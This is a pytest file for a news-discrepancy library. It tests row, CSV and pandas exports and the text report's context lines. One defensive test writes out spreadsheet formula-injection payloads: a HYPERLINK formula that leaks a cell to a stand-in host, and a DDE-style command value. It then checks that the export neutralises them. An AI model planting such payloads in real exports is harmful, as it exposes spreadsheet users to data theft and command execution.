"""Table exports and the text report's context (issue 15).

to_rows, to_csv (formula injection neutralised) and to_pandas (the optional ``pandas``
extra); the text report's context line and its aligned statements.
"""

from __future__ import annotations

import csv
import io

import pytest

import discrep
from discrep import Alignment, Article, Claim, Discrepancy, Report, Statement
from discrep._report import ROW_COLUMNS, context


def test_rows_are_one_per_claim(seed_report: Report) -> None:
    """to_rows: one row per claim, numbered by finding, quoting the article exactly."""
    rows = seed_report.to_rows()
    assert len(rows) == sum(len(d.claims) for d in seed_report.discrepancies)
    assert all(tuple(r) == ROW_COLUMNS for r in rows)
    texts = {a.source: a.text for a in seed_report.articles}
    for r in rows:
        d = seed_report.discrepancies[r["finding"] - 1]
        assert (r["kind"], r["subject"]) == (d.kind, d.subject)
        assert texts[r["source"]][r["start"] : r["end"]] == r["text"]


def test_csv_round_trips_through_the_csv_module(seed_report: Report) -> None:
    """to_csv reads back with the csv module into the same rows (as text)."""
    back = list(csv.DictReader(io.StringIO(seed_report.to_csv())))
    rows = seed_report.to_rows()
    assert len(back) == len(rows)
    for got, want in zip(back, rows, strict=True):
        assert got["text"] == want["text"]
        assert int(got["start"]) == want["start"]
        assert float(got["confidence"]) == want["confidence"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_spreadsheet_formulas(start: str) -> None:
    """A cell a spreadsheet would run as a formula is prefixed with ' (OWASP CSV injection)."""
    payload = start + 'HYPERLINK("http://e.invalid/?leak="&A1,"click")'
    text = f"Officials named {payload} as the source. Others said so."
    a = Article(text, source=start + "cmd|' /C calc'!A0")
    k = text.index(payload)
    c = Claim(a.source, payload, k, k + len(payload), text[: text.index(". ") + 1], payload)
    d = Discrepancy("spelling", payload, (c,), payload, 0.5)
    out = Report(articles=(a,), entities=(), alignments=(), discrepancies=(d,)).to_csv()
    (row,) = list(csv.DictReader(io.StringIO(out)))
    for col in ("subject", "source", "text", "value"):
        assert row[col].startswith("'" + start), (col, row[col])
    assert row["sentence"].startswith("Officials")  # only formula-like starts change


def test_to_pandas_has_one_row_per_claim(seed_report: Report) -> None:
    """to_pandas (the pandas extra): the rows as a DataFrame with the documented columns."""
    pytest.importorskip("pandas", reason="the optional extra discrep[pandas] is not installed")
    df = seed_report.to_pandas()
    assert list(df.columns) == list(ROW_COLUMNS)
    assert len(df) == len(seed_report.to_rows())
    assert df["start"].dtype.kind == "i"
    assert df["confidence"].dtype.kind == "f"
    assert df.iloc[0]["text"] == seed_report.discrepancies[0].claims[0].text


def test_to_pandas_without_pandas_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without pandas, to_pandas raises ImportError saying what to install."""
    import builtins

    real = builtins.__import__

    def no_pandas(name: str, *args: object, **kwargs: object) -> object:
        if name == "pandas":
            raise ImportError("No module named 'pandas'")
        return real(name, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "__import__", no_pandas)
    with pytest.raises(ImportError, match=r"discrep\[pandas\]"):
        discrep.compare(["Kyiv is calm.", "Kiev is calm."]).to_pandas()


# --- the text report -----------------------------------------------------------------


def test_context_holds_the_quoted_words_in_a_long_sentence() -> None:
    """The context line is a window centred on the quote, whatever its place in the sentence."""
    head = "In a long sentence that goes on " + "and on " * 40
    sentence = head + "Mykola Tkachuk said the talks ended" + ", and on" * 30 + "."
    a = Article(sentence, source="a.txt")
    k = sentence.index("Mykola Tkachuk")
    c = Claim("a.txt", "Mykola Tkachuk", k, k + 14, sentence)
    d = Discrepancy("spelling", "Mykola Tkachuk", (c,), "invented", 0.5)
    text = str(Report(articles=(a,), entities=(), alignments=(), discrepancies=(d,)))
    (line,) = [ln for ln in text.splitlines() if ln.strip().startswith("in: ")]
    shown = line.strip()[len("in: "):]
    assert "Mykola Tkachuk" in shown
    assert shown.startswith("…")
    assert shown.endswith("…")
    assert len(shown) <= 162


def test_context_on_every_seed_claim_holds_its_words(seed_report: Report) -> None:
    """On the seeds, every claim's context line shows the quoted words."""
    lines = str(seed_report).splitlines()
    quotes = [ln for ln in lines if ln.startswith("   - ")]
    contexts = [ln for ln in lines if ln.startswith("       in: ")]
    claims = [c for d in seed_report.discrepancies for c in d.claims]
    assert len(quotes) == len(contexts) == len(claims)
    for c, ctx in zip(claims, contexts, strict=True):
        assert " ".join(c.text.split()) in ctx


def test_context_of_a_short_sentence_is_the_sentence() -> None:
    """A sentence within the width is shown whole, on one line."""
    assert context("Kyiv is\ncalm.", 0, 4) == "Kyiv is calm."


def test_only_alignments_behind_a_finding_are_listed() -> None:
    """'Aligned statements behind the findings' lists the groups holding a finding's claim."""
    text = "Officials said 5 people died in Kyiv. The weather was mild in spring."
    other = "Officials said 7 people died in Kyiv. The weather was mild in spring."
    a, b = Article(text, source="a"), Article(other, source="b")
    k = text.index("5 people")
    c1 = Claim("a", "5 people", k, k + 8, text[:37])
    c2 = Claim("b", "7 people", k, k + 8, other[:37])
    d = Discrepancy("quantity", "people died", (c1, c2), "5 against 7 people died", 0.8)
    backing = Alignment((Statement("a", 0, 37, text[:37]), Statement("b", 0, 37, other[:37])), 0.9,
                        ("quantity:5",), "quantity")
    weather = Alignment((Statement("a", 38, 69, text[38:]), Statement("b", 38, 69, other[38:])),
                        0.7, ("words:alex,spelling,line",), "spelling")
    r = Report(articles=(a, b), entities=(), alignments=(backing, weather), discrepancies=(d,))
    for out in (str(r), r.to_markdown()):
        assert "behind finding 1" in out
        assert "weather" not in out.split("behind the findings")[1]
